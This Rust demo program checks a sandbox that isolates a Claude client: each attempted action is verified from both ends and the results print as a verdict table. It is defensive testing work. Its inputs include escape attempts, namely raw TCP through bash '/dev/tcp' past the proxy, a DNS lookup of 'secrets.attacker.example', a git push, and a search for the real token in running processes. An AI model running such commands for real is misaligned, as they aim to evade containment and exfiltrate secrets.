//! The demo: one bottle, whose real Claude asks a stand-in for the model, and tries what it may not. Prints a table of
//! verdicts, each of them observed from both ends. Run by `cargo xtask demo`.

use anyhow::{Result, ensure};
use bottle_tests::{
    bottle::{Home, REAL_TOKEN, identity_in, left_in_engine},
    lab::{Lab, Target},
    needle,
    standin::Standin,
    wire::Authority,
};
use std::io::{Write, stdout};

/// What was tried, what should happen, and whether it did.
struct Row {
    tried: &'static str,
    expected: &'static str,
    ok: bool,
}

fn main() -> Result<()> {
    let (lab, authority) = (Lab::get(), Authority::new()?);
    let hosts = ["api.anthropic.com", "allowed.example"];
    let standin = Standin::start(&authority, &hosts, &format!("Bearer {REAL_TOKEN}"))?;
    let target = Target::new()?;
    let before = target.packets()?;
    let home = Home::new(lab, &authority, &standin)?;
    let routes = hosts.map(|host| format!("{{host: {host}, address: {}}}", standin.address));
    home.bottle("box", &routes.each_ref().map(String::as_str))?;

    let address = target.address;
    let (results, run) = home.play(&[
        "curl -sS -m 5 -o /dev/null -w '%{http_code}' https://allowed.example/hello",
        "curl -sS -m 5 https://forbidden.example/",
        &format!("timeout 3 bash -c 'echo > /dev/tcp/{address}/443' 2>&1; echo rc=$?"),
        "getent hosts secrets.attacker.example; echo rc=$?",
        "git ls-remote https://allowed.example/r.git 2>&1; git -c http.extraHeader=x push https://allowed.example/r.git HEAD 2>&1; \
         curl -sS -m 5 'https://allowed.example/r.git/info/refs?service=git-receive-pack'",
        &needle::in_processes(REAL_TOKEN),
    ])?;
    let stderr = &run.stderr;
    writeln!(stdout(), "{stderr}")?;
    let result = |n: usize| results.get(n).map(String::as_str).unwrap_or_default();
    let identity = identity_in(stderr)?;
    let asked = standin.seen().into_iter().filter(|s| s.path.starts_with("/v1/messages")).collect::<Vec<_>>();
    let real = format!("Bearer {REAL_TOKEN}");
    let rows = [
        Row {
            tried: "the real Claude asks the model",
            expected: "answered",
            ok: run.code == Some(0) && !asked.is_empty(),
        },
        Row {
            tried: "credential that the model's host saw",
            expected: "the real one",
            ok: !asked.is_empty() && asked.iter().all(|s| s.header("authorization") == Some(&real)),
        },
        Row {
            tried: "real credential in any process of the bottle",
            expected: "not found",
            ok: result(5).contains(&needle::in_no_process(REAL_TOKEN)),
        },
        Row {
            tried: "GET https://allowed.example/hello",
            expected: "passed",
            ok: result(0).contains("404") && standin.seen().iter().any(|s| s.path == "/hello"),
        },
        Row {
            tried: "GET https://forbidden.example/",
            expected: "refused",
            ok: result(1).contains("\"rule\":\"host\""),
        },
        Row {
            tried: "TCP to a raw address, past the proxy",
            expected: "no packet",
            ok: result(2).contains("rc=")
                && !result(2).contains("rc=0")
                && target.packets()? == before
                && target.seen().is_empty(),
        },
        Row {
            tried: "DNS look-up of secrets.attacker.example",
            expected: "refused",
            ok: result(3).contains("rc=2") && stderr.contains("secrets.attacker.example (dns)"),
        },
        Row { tried: "git push over HTTPS", expected: "refused", ok: result(4).contains("\"rule\":\"git-push\"") },
        Row {
            tried: "containers, networks, state left behind",
            expected: "none",
            ok: left_in_engine(lab, &identity)?.is_empty() && home.identities().is_empty(),
        },
    ];
    let mut out = stdout().lock();
    writeln!(out, "{:<46}  {:<13}  VERDICT", "TRIED IN THE BOTTLE", "EXPECTED")?;
    for row in &rows {
        let verdict = if row.ok { "as expected" } else { "NOT SO" };
        writeln!(out, "{:<46}  {:<13}  {verdict}", row.tried, row.expected)?;
    }
    ensure!(rows.iter().all(|row| row.ok), "the demo did not go as it should: {results:#?}");
    Ok(())
}
